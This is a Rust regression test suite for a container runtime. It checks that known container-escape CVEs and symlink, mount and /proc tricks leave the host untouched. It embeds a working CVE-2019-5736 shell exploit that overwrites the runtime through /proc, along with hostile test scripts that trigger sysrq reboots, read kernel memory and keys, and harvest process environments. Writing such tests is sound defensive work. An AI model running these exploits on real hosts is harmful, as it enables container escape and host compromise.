//! Holes that were found in container runtimes, each kept closed.
//!
//! What every test shows is that nothing of the host was read or changed; whether the container is refused or runs
//! harmlessly is the runtime's choice unless the advisory says otherwise.

use std::{
    fs,
    os::unix::fs::{FileTypeExt as _, symlink},
    path::Path,
};

use rustix::fs::{CWD, Mode, mkfifoat};
use serde_json::{Value, json};

use crate::support::{
    Container, Invocation, Outcome,
    bundle::{add_mount, bind, capabilities, join_namespace},
    container::NO_OPTIONS,
    host::{self, need_other_than, need_own},
    suite::suite,
    trace::{Stop, Trace},
    wait_until,
};

suite![
    cve_2019_5736_the_runtime_cannot_be_overwritten_through_proc_self_exe,
    cve_2019_16884_a_mount_over_proc_files_is_refused,
    cve_2019_18837_a_mount_target_that_links_outside_stays_inside,
    cve_2019_19921_a_proc_that_is_a_link_is_refused,
    cve_2025_54867_a_sys_that_is_a_link_is_refused,
    cve_2021_30465_a_parent_of_a_target_that_links_outside_stays_inside,
    cve_2024_21626_a_working_directory_outside_is_refused,
    cve_2024_45310_making_a_target_makes_nothing_outside,
    cve_2025_31133_a_null_device_that_is_a_link_masks_nothing_else,
    cve_2025_52565_a_console_that_is_a_link_changes_nothing_outside,
    cve_2026_41579_a_dev_that_is_a_link_changes_nothing_outside,
    masked_paths_through_links_stay_inside,
    read_only_paths_through_links_stay_inside,
    proc_and_sys_are_hidden_where_they_were_mounted,
    a_proc_that_is_taken_away_is_no_reason_to_hide_nothing,
    what_a_hook_mounts_on_proc_is_hidden_too,
    a_console_on_procfs_is_refused,
    a_working_directory_through_a_link_stays_inside,
    a_tmpcopyup_of_a_link_copies_nothing_from_outside,
    the_passwd_of_the_image_may_link_outside,
    the_kernel_log_and_keys_are_out_of_reach,
    the_environment_of_the_runtime_is_out_of_reach,
    the_environment_of_the_caller_is_not_in_a_process_that_is_born,
    a_device_path_through_a_link_stays_inside,
    cve_2019_5736_a_neighbour_cannot_overwrite_the_runtime_that_it_has_opened,
    a_file_bound_onto_a_dangling_link_stays_inside,
];

/// A directory of the host with one file, which no container may touch.
struct Outside {
    container: Container,
}

impl Outside {
    fn new() -> Self {
        let container = Container::new();
        fs::create_dir(container.beside("outside")).unwrap();
        fs::write(container.beside("outside/secret"), "secret").unwrap();
        Self { container }
    }

    fn path(&self) -> std::path::PathBuf {
        self.container.beside("outside")
    }

    #[track_caller]
    fn is_untouched(&self) {
        let names: Vec<_> =
            fs::read_dir(self.path()).unwrap().flatten().map(|entry| entry.file_name()).collect();
        assert_eq!(names, ["secret"]);
        assert_eq!(fs::read_to_string(self.path().join("secret")).unwrap(), "secret");
    }
}

/// Replaces a directory or file of the image by a link.
fn replace(container: &Container, path: &str, target: impl AsRef<std::path::Path>) {
    let path = container.bundle.rootfs().join(path);
    let _ = fs::remove_dir(&path);
    let _ = fs::remove_file(&path);
    symlink(target, path).unwrap();
}

fn without_mounts_below(container: Container, top: &str) -> Container {
    container.edit(|spec| {
        let below = |mount: &Value| mount["destination"].as_str().is_some_and(|at| at.starts_with(top));
        spec["mounts"].as_array_mut().unwrap().retain(|mount| !below(mount));
    })
}

fn cve_2019_5736_the_runtime_cannot_be_overwritten_through_proc_self_exe() {
    let before = fs::read(host::runtime()).unwrap();
    // The program is the runtime itself, by way of a script's interpreter.
    let container = Container::with_args(["/run.sh"])
        .with_file("run.sh", 0o755, "#!/proc/self/exe\n")
        .with_file("bin/try", 0o755, "#!/bin/sh\necho overwritten >/proc/1/exe\n");
    let _ = container.run();
    let idle = Container::idle();
    idle.create();
    // Between create and start the init process still is the runtime; what it runs from must not be writable.
    let exe = format!("/proc/{}/exe", idle.pid());
    let opened = fs::OpenOptions::new().write(true).open(&exe);
    assert!(opened.is_err(), "{exe} can be opened for writing");
    assert!(fs::read(host::runtime()).unwrap() == before, "the runtime was changed");
}

fn cve_2019_16884_a_mount_over_proc_files_is_refused() -> Outcome {
    need_other_than("crun", "checks the file system when it writes there instead")?;
    for target in ["/proc", "/proc/self", "/proc/self/attr", "/proc/sys", "/proc/1/attr/exec"] {
        let container = Container::new();
        let source = container.beside("fake");
        fs::create_dir(&source).unwrap();
        let container = container.edit(|spec| {
            let mut mount = bind(&source, target, &[]);
            if target == "/proc" {
                // A plain tmpfs in place of proc is what an attacker would want to be written to.
                mount = json!({ "destination": "/proc", "type": "tmpfs", "source": "tmpfs" });
            }
            add_mount(spec, mount);
        });
        container.run_with(NO_OPTIONS).fails_with("");
        container.leaves_nothing();
    }
    Ok(())
}

fn cve_2019_18837_a_mount_target_that_links_outside_stays_inside() {
    let outside = Outside::new();
    let container = Container::with_script("echo written >/link/file").edit(|spec| {
        add_mount(spec, json!({ "destination": "/link", "type": "tmpfs", "source": "tmpfs" }));
    });
    replace(&container, "link", outside.path());
    let _ = container.run();
    outside.is_untouched();
    container.leaves_nothing();
}

fn cve_2019_19921_a_proc_that_is_a_link_is_refused() {
    let container = Container::with_args(["ls", "/tmp"]);
    replace(&container, "proc", "tmp");
    container.run_with(NO_OPTIONS).fails_with("");
    container.leaves_nothing();
}

fn cve_2025_54867_a_sys_that_is_a_link_is_refused() -> Outcome {
    need_other_than("crun", "follows it inside")?;
    let container = Container::new();
    replace(&container, "sys", "tmp");
    container.run_with(NO_OPTIONS).fails_with("");
    container.leaves_nothing();
    Ok(())
}

fn cve_2021_30465_a_parent_of_a_target_that_links_outside_stays_inside() {
    let outside = Outside::new();
    let container = Container::with_script("echo written >/link/deep/er/file").edit(|spec| {
        add_mount(spec, json!({ "destination": "/link/deep/er", "type": "tmpfs", "source": "tmpfs" }));
    });
    replace(&container, "link", outside.path());
    let _ = container.run();
    outside.is_untouched();
    container.leaves_nothing();
}

fn cve_2024_21626_a_working_directory_outside_is_refused() {
    for descriptor in 3..12 {
        let container = Container::with_script(
            "cat /proc/self/cwd/etc/hostname /proc/self/cwd/../../../../etc/hostname; pwd",
        )
        .edit(|spec| spec["process"]["cwd"] = json!(format!("/proc/self/fd/{descriptor}")));
        let run = container.run_with(NO_OPTIONS).current_dir("/").after_shell("exec 9</ 11</;");
        let output = run.output();
        // Either there is no such descriptor any more, or it is one of the container.
        assert_ne!(output.code(), 0, "{descriptor}: {output:#?}");
        container.leaves_nothing();
    }
}

fn cve_2024_45310_making_a_target_makes_nothing_outside() {
    let outside = Outside::new();
    let container = Container::new();
    let file = container.beside("file");
    fs::write(&file, "").unwrap();
    let container = container.edit(|spec| add_mount(spec, bind(&file, "/link/new-file", &[])));
    replace(&container, "link", outside.path());
    let _ = container.run();
    outside.is_untouched();
    container.leaves_nothing();
}

/// The image brings a /dev of its own whose null is a link; masking must not bind what it points at.
fn cve_2025_31133_a_null_device_that_is_a_link_masks_nothing_else() {
    let container =
        without_mounts_below(Container::with_script("cat /etc/masked; echo changed >/etc/masked"), "/dev")
            .with_file("etc/masked", 0o644, "to be hidden")
            .with_file("etc/target", 0o644, "original")
            .edit(|spec| spec["linux"]["maskedPaths"] = json!(["/etc/masked"]));
    replace(&container, "dev/null", "/etc/target");
    let output = container.run();
    assert!(!output.stdout.contains("original"), "{output:#?}");
    assert_eq!(fs::read_to_string(container.bundle.rootfs().join("etc/target")).unwrap(), "original");
    container.leaves_nothing();
}

fn cve_2025_52565_a_console_that_is_a_link_changes_nothing_outside() {
    let outside = Outside::new();
    let container =
        without_mounts_below(Container::with_script("echo changed >/dev/console"), "/dev/").edit(|spec| {
            spec["process"]["terminal"] = json!(true);
            let dev = |mount: &Value| mount["destination"] == "/dev";
            spec["mounts"].as_array_mut().unwrap().retain(|mount| !dev(mount));
        });
    replace(&container, "dev/console", outside.path().join("secret"));
    let socket = container.beside("sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let _ = container.run_with(["--detach", "--console-socket", socket.to_str().unwrap()]).output();
    outside.is_untouched();
}

fn cve_2026_41579_a_dev_that_is_a_link_changes_nothing_outside() {
    let outside = Outside::new();
    fs::write(outside.path().join("ptmx"), "a file of the host").unwrap();
    let container = without_mounts_below(Container::new(), "/dev");
    replace(&container, "dev", outside.path());
    let _ = container.run();
    assert_eq!(fs::read_to_string(outside.path().join("ptmx")).unwrap(), "a file of the host");
    fs::remove_file(outside.path().join("ptmx")).unwrap();
    outside.is_untouched();
    container.leaves_nothing();
}

fn masked_paths_through_links_stay_inside() {
    let outside = Outside::new();
    let container =
        Container::new().edit(|spec| spec["linux"]["maskedPaths"] = json!(["/link/secret", "/link"]));
    replace(&container, "link", outside.path());
    let _ = container.run();
    outside.is_untouched();
    container.leaves_nothing();
}

fn read_only_paths_through_links_stay_inside() {
    let outside = Outside::new();
    let container =
        Container::new().edit(|spec| spec["linux"]["readonlyPaths"] = json!(["/link/secret", "/link"]));
    replace(&container, "link", outside.path());
    let _ = container.run();
    outside.is_untouched();
    fs::write(outside.path().join("secret"), "secret").unwrap();
    container.leaves_nothing();
}

/// The rootfs, or a volume in it, is another container's, too, which moves directories: after the mounts, before the paths.
fn with_a_swap(container: Container, script: &str) -> Container {
    let rootfs = container.bundle.rootfs();
    let script = format!("cat >/dev/null; cd {} && {script}", rootfs.display());
    container.edit(|spec| {
        let hook = json!({ "path": "/bin/sh", "args": ["sh", "-c", script], "env": ["PATH=/usr/bin:/bin"] });
        spec["hooks"] = json!({ "createRuntime": [hook] });
    })
}

fn proc_and_sys_are_hidden_where_they_were_mounted() -> Outcome {
    need_own()?;
    for (name, masked, read_only) in [("proc", "keys", "sys"), ("sys", "kernel/debug", "devices")] {
        for made in ["mkdir", "ln -s tmp"] {
            for in_user_namespace in [false, true] {
                let container = Container::with_script("cat /*/self/mountinfo 2>/dev/null");
                let container =
                    with_a_swap(container, &format!("mv {name} moved && {made} {name}")).edit(|spec| {
                        spec["linux"]["maskedPaths"] = json!([format!("/{name}/{masked}")]);
                        spec["linux"]["readonlyPaths"] = json!([format!("/{name}/{read_only}")]);
                    });
                let container = if in_user_namespace { container.in_user_namespace() } else { container };
                let seen = container.says();
                let mounts: Vec<_> = seen.lines().map(|line| line.split(' ').collect::<Vec<_>>()).collect();
                for path in [masked, read_only] {
                    let mount = mounts.iter().find(|mount| mount[4] == format!("/moved/{path}"));
                    let mount = mount.unwrap_or_else(|| panic!("{name}/{path} was left as it is: {seen}"));
                    assert!(path == "keys" || mount[5].starts_with("ro"), "{path}: {mount:?}");
                }
            }
        }
    }
    Ok(())
}

/// To remove the directory unmounts what is on it elsewhere; rmdir(2) since Linux 3.18.
fn a_proc_that_is_taken_away_is_no_reason_to_hide_nothing() -> Outcome {
    need_own()?;
    let container = with_a_swap(Container::with_script("ls /proc"), "rmdir proc && mkdir proc");
    container.run_fails_with("/linux/readonlyPaths/0: make \"/proc/bus\" read-only");
    Ok(())
}

fn what_a_hook_mounts_on_proc_is_hidden_too() {
    let container = Container::with_script("cat /proc/keys; echo x >/proc/sys/kernel/domainname");
    let rootfs = container.bundle.rootfs();
    let container = container.edit(|spec| {
        let script = format!("mount -t proc proc {}/proc", rootfs.display());
        let hook = json!({ "path": "/bin/sh", "args": ["sh", "-c", script], "env": ["PATH=/usr/sbin:/usr/bin:/sbin:/bin"] });
        spec["hooks"] = json!({ "createContainer": [hook] });
    });
    let output = container.run();
    assert_eq!(output.stdout, "", "{output:#?}");
    assert!(output.stderr.contains("domainname: Read-only file system"), "{output:#?}");
}

/// The rule for mounts on /proc, which an image can have any path lead to, holds for the terminal, too.
fn a_console_on_procfs_is_refused() -> Outcome {
    need_own()?;
    let container = Container::with_script("true").edit(|spec| spec["process"]["terminal"] = json!(true));
    let container = without_mounts_below(container, "/dev").edit(|spec| {
        let devpts = json!({ "destination": "/dev/pts", "type": "devpts", "source": "devpts", "options": ["newinstance"] });
        add_mount(spec, devpts);
    });
    replace(&container, "dev/console", "/proc/sys/kernel/hostname");
    let socket = container.beside("sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let call = container.run_with(["--detach", "--console-socket", socket.to_str().unwrap()]);
    call.fails_with("/process/terminal: /dev/console cannot be mounted because it is inside /proc");
    container.leaves_nothing();
    Ok(())
}

fn a_working_directory_through_a_link_stays_inside() {
    let outside = Outside::new();
    let container =
        Container::with_script("touch here; pwd").edit(|spec| spec["process"]["cwd"] = json!("/link/new"));
    replace(&container, "link", outside.path());
    let _ = container.run();
    outside.is_untouched();
    container.leaves_nothing();
}

fn a_tmpcopyup_of_a_link_copies_nothing_from_outside() {
    let outside = Outside::new();
    let container = Container::with_script("ls -R /home; cat /home/link /home/secret").edit(|spec| {
        add_mount(
            spec,
            json!({ "destination": "/home", "type": "tmpfs", "source": "t", "options": ["tmpcopyup"] }),
        );
    });
    symlink(outside.path().join("secret"), container.bundle.rootfs().join("home/link")).unwrap();
    let output = container.run();
    assert!(!output.stdout.lines().any(|line| line == "secret"), "{output:#?}");
    let linked = Container::with_script("cat /home/secret").edit(|spec| {
        add_mount(
            spec,
            json!({ "destination": "/home", "type": "tmpfs", "source": "t", "options": ["tmpcopyup"] }),
        );
    });
    replace(&linked, "home", outside.path());
    let output = linked.run();
    assert!(!output.stdout.contains("secret"), "{output:#?}");
    outside.is_untouched();
}

/// HOME is looked up in the passwd of the container, as the container would open it.
fn the_passwd_of_the_image_may_link_outside() {
    let outside = Outside::new();
    fs::write(outside.path().join("secret"), "some:x:1000:1000::/of-the-host:/bin/sh\n").unwrap();
    let container = Container::with_script("echo $HOME")
        .edit(|spec| spec["process"]["user"] = json!({ "uid": 1000, "gid": 1000 }));
    replace(&container, "etc/passwd", outside.path().join("secret"));
    let output = container.run();
    assert!(!output.stdout.contains("of-the-host"), "{output:#?}");
}

fn the_kernel_log_and_keys_are_out_of_reach() {
    let output =
        Container::with_script("cat /proc/kcore | head -c 1; cat /proc/keys; echo b >/proc/sysrq-trigger")
            .run();
    assert_eq!(output.stdout, "", "{output:#?}");
    assert!(output.stderr.contains("sysrq-trigger"), "{output:#?}");
}

fn the_environment_of_the_runtime_is_out_of_reach() {
    let container = Container::with_script("cat /proc/*/environ");
    let output = container.run_with(NO_OPTIONS).env("SECRET_OF_THE_CALLER", "1").output();
    assert!(!output.stdout.contains("SECRET_OF_THE_CALLER"), "{output:#?}");
}

/// Who has CAP_SYS_PTRACE in the container may look into whatever is born there. Neither an environment of one line nor one of many
/// pages stays, nor the command line with its paths of the host.
fn the_environment_of_the_caller_is_not_in_a_process_that_is_born() -> Outcome {
    need_own()?;
    Trace::need()?;
    for length in [1, 60_000] {
        let secret = "SECRET_OF_THE_CALLER".repeat(length / 20 + 1);
        let container = Container::idle();
        let created = container.create_with(NO_OPTIONS).env("SECRET", &secret).succeeds();
        let of_init = |file: &str| fs::read(format!("/proc/{}/{file}", container.pid())).unwrap();
        assert!(of_init("environ").iter().all(|byte| *byte == 0), "{created:#?}");
        assert_eq!(String::from_utf8(of_init("cmdline")).unwrap().trim_end_matches('\0'), "runtime init");
    }
    let container = Container::idle().edit(|spec| capabilities(spec, &["CAP_KILL", "CAP_SYS_PTRACE"]));
    container.launch();
    let namespace = fs::read_link(format!("/proc/{}/ns/pid", container.pid())).unwrap();
    let mut trace = Trace::of(container.exec(["true"]).env("SECRET", "SECRET_OF_THE_CALLER"));
    let (mut seen, mut began) = (0, false);
    while let Some((pid, stop)) = trace.next() {
        began |= stop == Stop::Executed && pid != trace.first();
        let is_inside = fs::read_link(format!("/proc/{pid}/ns/pid")).is_ok_and(|own| own == namespace);
        if is_inside && !began {
            seen += 1;
            for file in ["environ", "cmdline"] {
                let text = fs::read(format!("/proc/{pid}/{file}")).unwrap();
                let text = String::from_utf8_lossy(&text);
                assert!(!text.contains("SECRET") && !text.contains(&container.id), "{file}: {text:?}");
            }
        }
    }
    assert!(seen > 10, "the process was seen {seen} times");
    trace.finish().code();
    Ok(())
}

fn a_device_path_through_a_link_stays_inside() -> Outcome {
    need_own()?;
    let outside = Outside::new();
    let container = Container::new().edit(|spec| {
        spec["linux"]["devices"] = json!([{ "path": "/link/null", "type": "c", "major": 1, "minor": 3 }]);
    });
    replace(&container, "link", outside.path());
    let _ = container.run();
    outside.is_untouched();
    assert!(fs::metadata("/dev/null").unwrap().file_type().is_char_device());
    Ok(())
}

/// What Docker gives a container by default, without CAP_SYS_PTRACE.
const DOCKERS: [&str; 14] = [
    "CAP_AUDIT_WRITE",
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_MKNOD",
    "CAP_NET_BIND_SERVICE",
    "CAP_NET_RAW",
    "CAP_SETFCAP",
    "CAP_SETGID",
    "CAP_SETPCAP",
    "CAP_SETUID",
    "CAP_SYS_CHROOT",
];

/// Opens the executable of every process that is no busybox, and writes to it as soon as nobody executes it any more.
const OVERWRITE: &str = "trap 'exit 0' TERM; echo ready
attack() {
    case $(readlink /proc/$$/fd/3) in */busybox) return ;; esac
    echo opened $1
    while [ -e /proc/$1/exe ]; do :; done
    for i in 1 2 3 4 5; do
        if (echo overwritten >/proc/$$/fd/3) 2>/dev/null; then echo overwrote; fi
    done
    echo tried $1
}
round=0
while :; do
    for p in /proc/[0-9]*; do
        n=${p#/proc/}
        [ $n = $$ ] || { attack $n; } 3<$p/exe
    done 2>/dev/null
    round=$((round + 1)); echo $round >/tmp/round
done";

/// The live exploit: one container waits in the pid namespace that the other joins, whose program is the runtime.
fn cve_2019_5736_a_neighbour_cannot_overwrite_the_runtime_that_it_has_opened() {
    let attacker = Container::with_script(OVERWRITE).edit(|spec| {
        for set in ["bounding", "permitted", "effective"] {
            spec["process"]["capabilities"][set] = json!(DOCKERS);
        }
    });
    let output = attacker.launch();
    output.wait_for_stdout("ready");
    let namespace = format!("/proc/{}/ns/pid", attacker.pid());

    let count = |what: &str| output.stdout_now().matches(what).count();
    let round = || {
        let text = fs::read_to_string(attacker.bundle.rootfs().join("tmp/round")).unwrap_or_default();
        text.trim().parse::<u32>().unwrap_or(0)
    };

    // A copy, for it is lost if this fails.
    let copy = attacker.beside("runtime-under-attack");
    host::copy_runtime(&copy);
    let before = fs::read(&copy).unwrap();
    // The first stays for as long as nobody reads its log; the others come and go.
    for args in [&["/proc/self/exe", "--log", "/log", "list"][..], &["/proc/self/exe", "--version"]] {
        for _ in 0..5 {
            let victim = Container::with_args(args).edit(|spec| {
                join_namespace(spec, "pid", &namespace);
                // What a runtime that is not static needs.
                for libraries in ["/lib", "/lib64", "/usr"].map(Path::new) {
                    if libraries.exists() {
                        add_mount(spec, bind(libraries, libraries.to_str().unwrap(), &["ro"]));
                    }
                }
            });
            mkfifoat(CWD, victim.bundle.rootfs().join("log"), Mode::RUSR | Mode::WUSR).unwrap();
            let opened = count("opened");
            let on_copy = || Invocation::new(&copy).arg("--root").arg(victim.root());
            let run = on_copy().args(["run", "--detach", "--bundle"]).arg(victim.bundle.path());
            let ran = run.arg(&victim.id).output();
            assert_eq!(ran.code(), 0, "{ran:#?}");
            // Long enough to be seen several times, unless it is opened, which the attacker follows up first.
            let last = round() + 10;
            wait_until("the attacker has looked around", || round() >= last || count("opened") > opened);
            on_copy().args(["delete", "--force", &victim.id]).output();
        }
    }
    wait_until("the attacker has tried", || count("opened") == count("tried"));
    assert!(fs::read(&copy).unwrap() == before, "the runtime was overwritten: {}", output.stdout_now());
    assert!(!output.stdout_now().contains("overwrote"), "{}", output.stdout_now());
}

/// The image of a distribution that uses systemd-resolved has such a /etc/resolv.conf, and engines bind a file onto it.
fn a_file_bound_onto_a_dangling_link_stays_inside() -> Outcome {
    need_other_than("runc", "refuses it")?;
    let outside = Outside::new();
    let absolute = outside.path().join("new-file");
    let links = [
        ("../run/systemd/resolve/stub-resolv.conf", "run/systemd/resolve/stub-resolv.conf"),
        ("/run/made.conf", "run/made.conf"),
        ("../../../../../../run/up.conf", "run/up.conf"),
        (absolute.to_str().unwrap(), absolute.to_str().unwrap().trim_start_matches('/')),
    ];
    for (link, made) in links {
        let container = Container::with_args(["cat", "/etc/resolv.conf"]);
        let source = container.beside("resolv.conf");
        fs::write(&source, "nameserver 192.0.2.1\n").unwrap();
        let container = container.edit(|spec| add_mount(spec, bind(&source, "/etc/resolv.conf", &["rbind"])));
        replace(&container, "etc/resolv.conf", link);
        assert_eq!(container.says(), "nameserver 192.0.2.1", "{link}");
        let made = fs::symlink_metadata(container.bundle.rootfs().join(made)).unwrap();
        assert_eq!((made.is_file(), made.len()), (true, 0), "{link}");
        container.leaves_nothing();
    }
    outside.is_untouched();
    Ok(())
}
